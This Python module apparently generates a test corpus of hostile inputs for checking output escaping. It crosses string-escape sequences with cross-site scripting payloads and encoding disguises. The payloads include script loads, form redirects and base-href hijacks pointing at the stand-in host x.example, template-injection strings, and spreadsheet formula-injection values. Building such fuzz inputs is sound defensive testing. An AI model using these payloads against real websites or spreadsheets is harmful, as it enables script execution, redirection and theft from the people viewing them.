"""Some thousand texts that break pages, headers and messages where a program is careless.

Made of what such texts are made of: a way out of where the text stands, something that acts, and a
disguise. So each way out is tried with each act in each disguise.
"""

from collections.abc import Callable, Iterator
from itertools import product
from urllib.parse import quote

WAYS_OUT = (
    "",
    '"',
    "'",
    "`",
    '">',
    "'>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</select></form>",
    "</style></script>",
    "\\",
    "\r\n\r\n",
    "<!--",
    '" autofocus x="',
    "&quot;>",
    "</button></details>",
    "}}%>",
)
ACTS = (
    "<script>alert(1)</script>",
    "<script src=//x.example/a.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<b onclick=alert(1)>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<body onpageshow=alert(1)>",
    "<form action=//x.example><button>go</button></form>",
    "<style>*{background:url(//x.example)}</style>",
    "<meta http-equiv=refresh content=0;url=//x.example>",
    "<base href=//x.example>",
    "<math><mtext></form><form>",
    " onfocus=alert(1) autofocus ",
    "javascript:alert(1)//",
    "data:text/html,<b>x</b>",
    "{{ self }}{% raw %}%(name)s%s{0}",
)
DISGUISES: tuple[Callable[[str], str], ...] = (
    str,
    str.upper,
    str.swapcase,
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&#x3c"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "<\x00").replace("=", "\x0b="),
    lambda text: text.replace(" ", "\t\n"),
    lambda text: text.replace("<", "<\u200b\u202e"),
    quote,
    lambda text: text.replace("<", "\\u003c"),
    lambda text: f"Анна 👋 {text} ﷽\ud83d"[:-1],
    lambda text: text * 3,
)
FORMULAS = tuple(f"{sign}HYPERLINK(0)|' /C x'!A0" for sign in ("=", "+", "-", "@", "\t=", "\x00="))


def hostile() -> Iterator[str]:
    """Each of them once, always in the same order."""
    yield from FORMULAS
    made = (disguise(way + act) for way, act, disguise in product(WAYS_OUT, ACTS, DISGUISES))
    yield from dict.fromkeys(made)


def at_once(number: int) -> list[str]:
    """The same, so many of them in one text: if one does harm, the text does."""
    texts = [*hostile()]
    return [" ".join(texts[place : place + number]) for place in range(0, len(texts), number)]
